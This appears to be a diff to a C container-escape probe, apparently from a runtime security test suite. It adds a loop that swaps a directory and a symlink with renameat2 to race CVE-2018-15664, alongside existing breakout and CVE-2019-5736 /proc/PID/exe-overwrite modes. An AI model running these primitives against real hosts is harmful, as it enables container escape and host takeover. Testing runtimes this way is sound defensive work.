@@ -7,6 +7,8 @@
  *   probe breakout HOSTPID HOSTMARKER MAJOR MINOR   the escapes of a default container
  *   probe exes                                       CVE-2019-5736: write every /proc/PID/exe
  *                                                    seen, until /tmp/stop exists
+ *   probe swap A B                                   CVE-2018-15664: exchange A and B in a loop,
+ *                                                    until /tmp/stop exists
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -324,14 +326,32 @@ static void exes(void) {
   printf("done\n");
 }
 
+/* CVE-2018-15664: swaps two paths (a directory and a symlink) atomically, as fast as it can, until /tmp/stop exists. */
+static void swap(const char *a, const char *b) {
+  struct stat st;
+  long swaps = 0;
+  while (stat("/tmp/stop", &st) < 0) {
+    for (int i = 0; i < 1000; i++) {
+      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
+        report("swap", -1);
+        return;
+      }
+      swaps++;
+    }
+  }
+  printf("swaps %ld\n", swaps);
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc == 6 && strcmp(argv[1], "breakout") == 0) {
     breakout(atoi(argv[2]), argv[3], (unsigned) atoi(argv[4]), (unsigned) atoi(argv[5]));
+  } else if (argc == 4 && strcmp(argv[1], "swap") == 0) {
+    swap(argv[2], argv[3]);
   } else if (argc == 2 && strcmp(argv[1], "exes") == 0) {
     exes();
   } else {
-    fprintf(stderr, "usage: probe breakout HOSTPID MARKER MAJOR MINOR | probe exes\n");
+    fprintf(stderr, "usage: probe breakout HOSTPID MARKER MAJOR MINOR | probe exes | probe swap A B\n");
     return 2;
   }
   return 0;
